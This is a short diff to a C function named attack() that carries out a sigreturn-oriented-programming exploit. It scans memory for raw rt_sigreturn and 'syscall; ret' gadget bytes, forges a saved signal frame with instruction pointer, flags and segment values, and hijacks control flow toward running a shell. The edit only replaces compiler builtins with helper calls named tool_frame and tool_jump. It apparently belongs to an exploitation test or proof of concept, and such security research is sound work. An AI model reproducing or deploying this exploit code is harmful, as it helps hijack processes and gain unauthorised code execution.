@@ -22,7 +22,7 @@ static void attack(void)
 	char *arguments[] = { shell, NULL };
 	volatile uintptr_t after[] = { (uintptr_t)goes_on, 0 };
 	volatile uintptr_t saved[128] = { 0 };
-	void *there[5] = { __builtin_frame_address(0),
+	void *there[5] = { (void *)tool_frame(),
 			   (void *)ends_in("\x48\xc7\xc0\x0f\0\0\0\x0f\x05", 9), /* rt_sigreturn */
 			   (void *)(uintptr_t)saved };
 
@@ -34,5 +34,5 @@ static void attack(void)
 	saved[RIP] = ends_in("\x0f\x05\xc3", 3); /* syscall; ret */
 	saved[FLAGS] = 0x202;
 	saved[SEGMENTS] = 0x002b000000000033;
-	__builtin_longjmp(there, 1);
+	tool_jump((uintptr_t)there[0], (uintptr_t)there[1], (uintptr_t)there[2]);
 }
